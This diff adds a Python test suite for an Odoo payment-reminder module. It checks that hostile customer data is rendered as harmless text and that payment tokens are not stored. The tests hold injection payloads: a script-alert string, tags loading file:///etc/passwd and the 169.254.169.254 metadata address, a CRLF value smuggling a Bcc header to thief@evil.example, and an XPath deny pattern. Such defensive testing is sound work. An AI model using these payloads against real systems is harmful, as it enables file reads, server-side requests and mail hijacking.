@@ -1,0 +1,149 @@
+from unittest.mock import patch
+
+from lxml import html
+
+from odoo import fields
+from odoo.tests import tagged
+from odoo.tools import mute_logger
+
+from odoo.addons.receivable_dunning.models.dunning_action_text import DunningAction as ActionText
+
+from .common import DunningCase, after
+
+SCRIPT = "<script>alert(1)</script>"
+FILES = '<img src="file:///etc/passwd"><iframe src="http://169.254.169.254/"></iframe><object data="file:///etc/passwd"></object>'
+BCC = "\r\nBcc: thief@evil.example"
+FORBIDDEN = "//script | //iframe | //object | //embed | //link | //form | //@onerror | //@onload | //img[not(starts-with(@src, 'data:image/'))]"
+
+
+@tagged("post_install", "-at_install")
+class TestHostile(DunningCase):
+    """Names, references and texts come from strangers: they are words, in e-mails, letters, previews and headers."""
+
+    def hostile(self):
+        """A message whose every name and text wants to be more than words."""
+        payer = self.payer(
+            f"Garage {SCRIPT}", email="evil@tourneboulon.example", ref=SCRIPT, street=FILES, zip="54990", city=SCRIPT,
+            country_id=self.env.ref("base.fr").id,
+        )  # fmt: skip
+        self.company.write({"name": f"Us {SCRIPT}", "dunning_legal_line": FILES, "street": FILES, "dunning_mediator": SCRIPT})
+        self.collector.name = f"Colette {SCRIPT}"
+        bill = self.invoice(payer, "2026-03-16", 1000, ref=f"{SCRIPT}{FILES}", payment_reference=SCRIPT)
+        bill.line_ids.filtered("date_maturity").name = FILES
+        action = self.plan(after(5)).filtered(lambda action: action.partner_id == payer)
+        action.with_user(self.collector).action_change_text(
+            f"{SCRIPT}\n\n\x01{FILES}\n\n**{SCRIPT}**\n\n{{{{payer}}}} {{{{account}}}} {{{{items table}}}} {{{{how to pay}}}} {{{{total due}}}}"
+        )
+        return action
+
+    def check_words_only(self, page):
+        found = html.fromstring(str(page)).xpath(FORBIDDEN)
+        self.assertFalse(found, [html.tostring(one) if not isinstance(one, str) else one for one in found])
+        self.assertNotIn("file:///", "".join(html.fromstring(str(page)).xpath("//@src | //@href | //@data | //@style")))
+
+    def test_an_email_and_its_preview_hold_words_only(self):
+        action = self.hostile()
+        self.check_words_only(action.with_user(self.collector).preview)
+        action.with_user(self.collector).action_approve()
+        self.send(after(5))
+        (mail,) = self.mails()
+        self.check_words_only(mail.get_body(("html",)).get_content())
+        self.assertIn("alert(1)", mail.get_body(("html",)).get_content())
+
+    def test_a_letter_loads_nothing_from_a_disk_or_a_network(self):
+        action = self.hostile()
+        action.with_user(self.collector).action_letter_instead()
+        with self.on(after(5)):
+            composed = action._composed(after(5))[action.id]
+        self.check_words_only(composed.framed)
+
+    def test_a_template_is_shown_as_words_too(self):
+        template = self.env.ref("receivable_dunning.dunning_template_reminder_1_standard").with_user(self.manager)
+        template.body = f"{SCRIPT} {FILES} {template.body}"
+        self.check_words_only(template.preview_en)
+
+    def test_the_timeline_holds_no_script_whoever_wrote(self):
+        action = self.hostile()
+        action.with_user(self.collector).action_approve()
+        self.send(after(5))
+        action.partner_id.message_post(body=SCRIPT, body_is_html=True, message_type="email", subject=SCRIPT)
+        for line in action.partner_id.with_user(self.collector).receivable_timeline:
+            if line["body"]:
+                self.check_words_only(f"<div>{line['body']}</div>")
+
+    def test_a_note_of_a_call_is_words_on_the_agenda_and_on_the_timeline(self):
+        self.invoice(self.garage, "2026-03-16", 1000)
+        action = self.plan(after(5)).filtered(lambda action: action.partner_id == self.garage)
+        action.with_user(self.collector).action_call_instead()
+        action.with_user(self.collector).action_call_outcome("disputed", note=f"<b>{SCRIPT}{FILES}</b>")
+        told = self.garage.activity_ids.note, self.garage.message_ids[:1].body
+        for page in told:
+            self.check_words_only(f"<div>{page}</div>")
+            self.assertIn("alert(1)", str(page))
+
+    # -- headers --------------------------------------------------------------------------------------------------------------
+
+    @mute_logger("odoo.addons.receivable_dunning.models.dunning_outbox")
+    def test_a_line_break_in_a_name_adds_no_header(self):
+        for who, record in (("payer", self.garage), ("company", self.company), ("collector", self.collector.partner_id)):
+            with self.subTest(who=who):
+                record.name = f"Innocent{BCC}"
+                payer = self.garage if who == "payer" else self.payer("Chez Marthe", email="marthe@chez.example")
+                bill = self.invoice(payer, "2026-03-16", 700)
+                action = self.plan(after(5)).filtered(lambda action, payer=payer: action.partner_id == payer)
+                self.send(after(5))
+                self.assertEqual(action.state, "sent", action.reason)
+                for _sender, recipients, mail in self.server.kept:
+                    self.assertNotIn("Bcc", mail)
+                    self.assertNotIn("thief@evil.example", recipients)
+                    self.assertNotIn(b"\nBcc:", mail.as_bytes().partition(b"\n\n")[0].replace(b"\r\n", b"\n"))
+                record.name = "Somebody"
+                self.pay(bill)
+
+    @mute_logger("odoo.addons.receivable_dunning.models.dunning_outbox")
+    def test_a_line_break_in_an_address_or_a_subject_adds_no_header(self):
+        template = self.env.ref("receivable_dunning.dunning_template_reminder_1_standard")
+        template.subject = f"Reminder{BCC}"
+        payer = self.payer("Chez Marthe", email=f"marthe@chez.example{BCC}")
+        self.invoice(payer, "2026-03-16", 700)
+        self.plan(after(5))
+        self.send(after(5))
+        for _sender, recipients, mail in self.server.kept:
+            self.assertNotIn("Bcc", mail)
+            self.assertNotIn("thief@evil.example", recipients)
+
+    # -- secrets --------------------------------------------------------------------------------------------------------------
+
+    def test_a_personal_link_is_kept_nowhere_not_even_with_the_evidence_of_a_formal_notice(self):
+        action, _bills = self.reminder(1000)
+        action.severity = 7
+
+        def live_links(actions):
+            return {one.id: {one._links()["account"]: "https://pay.example/token-of-the-customer"} for one in actions}
+
+        with patch.object(ActionText, "_live_links", live_links):
+            action.with_user(self.manager).action_approve()
+            self.send(after(5))
+        (mail,) = self.mails()
+        self.assertIn("token-of-the-customer", mail.get_body(("plain",)).get_content())
+        kept = self.env["ir.attachment"].sudo().search([("res_model", "=", "res.partner"), ("res_id", "=", self.garage.id)])
+        evidence = kept.filtered(lambda file: file.mimetype == "message/rfc822")
+        self.assertTrue(evidence)
+        from email import message_from_bytes, policy
+
+        for file in evidence:
+            parts = message_from_bytes(file.raw, policy=policy.default)
+            for kind in ("plain", "html"):
+                self.assertNotIn("token-of-the-customer", parts.get_body((kind,)).get_content())
+        self.assertNotIn("token-of-the-customer", f"{action.body_html} {action.body_text} {action.mail_message_id.body}")
+
+    def test_a_file_of_letters_is_read_by_those_who_follow_payers_up_in_its_company(self):
+        batch = self.env["dunning.letter.batch"].sudo().create({"company_id": self.company.id, "date": fields.Date.today()})
+        file = self.env["ir.attachment"].sudo().create({
+            "name": "letters.pdf", "raw": b"%PDF-1.4", "res_model": "dunning.letter.batch", "res_id": batch.id,
+        })  # fmt: skip
+        self.assertTrue(file.with_user(self.reader).has_access("read"))
+        self.assertFalse(file.with_user(self.reader).has_access("write"))
+        other = self.setup_other_company(name="Company B")["company"]
+        self.reader.write({"company_ids": [fields.Command.set(other.ids)], "company_id": other.id})
+        self.assertFalse(file.with_user(self.reader).has_access("read"))
